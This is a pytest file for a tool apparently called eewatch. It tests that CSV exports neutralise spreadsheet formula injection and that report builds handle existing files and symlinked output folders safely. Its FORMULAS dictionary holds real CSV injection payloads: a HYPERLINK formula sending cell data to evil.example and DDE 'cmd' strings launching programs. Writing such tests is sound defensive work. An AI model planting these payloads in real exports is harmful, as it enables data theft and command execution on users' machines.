"""Hostile world III, files eewatch writes: CSV cells a spreadsheet would run, the report folder.

Each test failed on the code before the fix (docs/hostile.md, "Hostile world III: operations").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from eewatch.app.views.site import build_report
from eewatch.domain.clock import FrozenClock
from eewatch.store.store import Store
from tests.support.cli import cli
from tests.support.fetches import copy_fetch

pytestmark = pytest.mark.hostile

FIXTURE = Path(__file__).parent / "fixtures" / "views" / "rounds.json"
NOW = dt.datetime(2025, 3, 1, 12, tzinfo=dt.UTC)

#: Names that Excel, LibreOffice and Google Sheets would run as formulas.
FORMULAS = {
    "401": '=HYPERLINK("http://evil.example/?"&A1,"Healthcare")',
    "400": "+cmd|' /C calc'!A0",
    "399": "-2+3+cmd|' /C notepad'!A0",
    "398": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _store(tmp_path: Path) -> Store:
    document = json.loads(FIXTURE.read_bytes())
    for record in document["rounds"]:
        if record["drawNumber"] in FORMULAS:
            record["drawName"] = FORMULAS[record["drawNumber"]]
    store = Store.open(f"sqlite:///{tmp_path / 'eewatch.sqlite'}", FrozenClock(NOW))
    store.record_feed_fetch(copy_fetch(json.dumps(document).encode()))
    return store


def _names(text: str) -> dict[str, str]:
    return {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(text))}


def _assert_neutral(names: dict[str, str]) -> None:
    for number, formula in FORMULAS.items():
        name = names[number]
        assert name == "'" + formula, f"round {number}: {name!r} would run as a formula"
    for cell in names.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_cells_that_start_a_formula_are_neutralised_in_the_export(tmp_path: Path) -> None:
    _store(tmp_path).close()
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "eewatch.sqlite"}"\n')
    result = cli("export", "--format", "csv", "--config", str(config))
    assert result.returncode == 0, result.stderr
    _assert_neutral(_names(result.stdout))
    # The JSON export is data, not a spreadsheet: the name stays as published.
    result = cli("export", "--format", "json", "--config", str(config))
    assert {r["id"]: r["name"] for r in json.loads(result.stdout)}["401"] == FORMULAS["401"]


def test_csv_cells_that_start_a_formula_are_neutralised_in_the_report(tmp_path: Path) -> None:
    store = _store(tmp_path)
    try:
        build_report(store, tmp_path / "site", FrozenClock(NOW))
    finally:
        store.close()
    _assert_neutral(_names((tmp_path / "site" / "rounds.csv").read_text(encoding="utf-8")))


def test_a_file_added_to_the_report_folder_survives_every_build(tmp_path: Path) -> None:
    store = _store(tmp_path)
    site = tmp_path / "site"
    try:
        build_report(store, site, FrozenClock(NOW))
        (site / "CNAME").write_text("rounds.example.org\n")
        (site / ".well-known").mkdir()
        (site / ".well-known" / "security.txt").write_text("Contact: mailto:me@example.org\n")
        # A page eewatch wrote and no longer writes is eewatch's to drop.
        (site / "old-category.html").write_text("<p>gone</p>")
        manifest = site / ".eewatch-manifest"
        if manifest.exists():
            manifest.write_text(manifest.read_text() + "old-category.html\n")
        for _ in range(4):
            build_report(store, site, FrozenClock(NOW))
    finally:
        store.close()
    assert (site / "CNAME").read_text() == "rounds.example.org\n"
    assert (site / ".well-known" / "security.txt").read_text() == "Contact: mailto:me@example.org\n"
    assert not (site / "old-category.html").exists()
    assert (site / "rounds.csv").exists() and (site / "index.html").exists()


def test_report_out_on_a_symlink_to_a_folder_eewatch_did_not_make_is_refused(tmp_path: Path) -> None:
    _store(tmp_path).close()
    web = tmp_path / "www"
    web.mkdir()
    (web / "index.html").write_text("<p>the old site</p>")
    site = tmp_path / "site"
    site.symlink_to(web, target_is_directory=True)
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "eewatch.sqlite"}"\n')
    result = cli("report", "--out", str(site), "--config", str(config))
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    [line] = result.stderr.strip().splitlines()
    assert "symlink" in line and str(web) in line, line
    assert site.is_symlink() and site.resolve() == web.resolve(), "the link was re-pointed"
    assert (web / "index.html").read_text() == "<p>the old site</p>"
    assert not (tmp_path / ".site.builds").exists() or not any((tmp_path / ".site.builds").iterdir())
